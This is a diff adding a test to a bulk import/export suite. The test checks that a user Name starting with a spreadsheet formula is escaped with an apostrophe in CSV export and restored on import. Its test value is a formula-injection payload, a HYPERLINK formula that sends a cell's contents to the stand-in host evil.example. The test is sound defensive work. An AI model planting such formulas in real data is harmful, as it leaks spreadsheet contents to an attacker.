@@ -199,6 +199,20 @@ describe('bulk imports', function () {
     assert.equal(await count(`/appointments?ManagerId=${ids.maria}`), before + 2)
   })
 
+  it('a formula-like Name is exported after an apostrophe (a spreadsheet shows it as text) and imported back as it was', async () => {
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    await server.app.service('users').patch(ids.omar, { Name: name })
+    const exported = await fetch(`${server.url}/users?email=omar@example.com&$select[]=Name&$select[]=email`, { headers: { accept: 'text/csv', authorization: `Bearer ${tokens.admin}` } })
+    const csv = await exported.text()
+    assert.equal(csv.split('\n')[1], `${ids.omar},"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")",omar@example.com`, 'the cell starts with an apostrophe')
+    await server.app.service('users').patch(ids.omar, { Name: 'Omar' })
+    // The export's own cells, without its `_id` column (an import matches users by email and takes no id).
+    const record = await runImport('admin', 'users', csv.replace('_id,', '').replace(`${ids.omar},`, ''))
+    assert.deepEqual([record.SuccessRecords, record.ErrorRecords], [1, 0], JSON.stringify(record.ErrorDetails))
+    assert.equal((await server.app.service('users').get(ids.omar)).Name, name, 'the apostrophe the export added is taken off')
+    await server.app.service('users').patch(ids.omar, { Name: 'Omar' })
+  })
+
   it('a key finds its record as the service spells it (emails lower-cased); the unchanged key is not patched, so a Manager updates her own profile', async () => {
     const upper = await runImport('admin', 'users', ['Name,email', 'Maria By Upper Case, MARIA@Example.com '].join('\n'))
     assert.deepEqual([upper.SuccessRecords, upper.ErrorRecords], [1, 0], JSON.stringify(upper.ErrorDetails))
